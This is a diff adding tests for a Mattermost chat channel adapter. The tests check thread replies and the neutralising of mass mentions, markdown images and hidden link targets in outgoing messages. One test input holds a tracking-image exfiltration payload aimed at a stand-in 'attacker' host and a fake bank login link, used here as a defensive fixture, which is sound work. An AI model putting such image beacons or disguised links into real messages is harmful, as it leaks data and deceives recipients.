@@ -66,4 +66,31 @@ describe('mattermost channel', () => {
       reason: 'mattermost: You do not have the appropriate permissions. [api.context.permissions.app_error] (HTTP 403)',
     });
   });
+
+  it('answers in a thread: `<channel>#<post id>` becomes root_id', async () => {
+    const { service, channel } = await setUp();
+    expect(await deliverText(channel, `${CHANNEL_ID}#rootpost1234567890abcdefgh`, 'in thread')).toMatchObject({ status: 'delivered' });
+    expect(bodyOf(service.requests[0])).toEqual({ channel_id: CHANNEL_ID, message: 'in thread', root_id: 'rootpost1234567890abcdefgh' });
+  });
+
+  it('never pings the channel, loads an image or hides a link target', async () => {
+    const { service, channel } = await setUp();
+    const text = '@channel @all @here look ![t](http://attacker/track.png?d=secret) and [bank](https://evil.example/login) or https://x.example/a';
+    await deliverText(channel, CHANNEL_ID, text);
+    expect(bodyOf(service.requests[0])).toEqual({
+      channel_id: CHANNEL_ID,
+      message: '@\u200Bchannel @\u200Ball @\u200Bhere look t (`http://attacker/track.png?d=secret`) and bank (`https://evil.example/login`) or `https://x.example/a`',
+    });
+  });
+
+  it('with markup "allow", an agent reply is sent as written; a notify is neutralised anyway', async () => {
+    service = await startFakeService(mattermostApi({ rateLimited: 0 }));
+    const channel = mattermostChannel.create({ baseUrl: service.baseUrl, botToken: TOKEN, markup: 'allow' }, testDeps());
+    await deliverText(channel, CHANNEL_ID, '@here ![chart](https://grafana.example/c.png)');
+    await deliverText(channel, CHANNEL_ID, '@here ![chart](https://grafana.example/c.png)', { untrusted: true });
+    expect(service.requests.map((request) => bodyOf(request)['message'])).toEqual([
+      '@here ![chart](https://grafana.example/c.png)',
+      '@\u200Bhere chart (`https://grafana.example/c.png`)',
+    ]);
+  });
 });
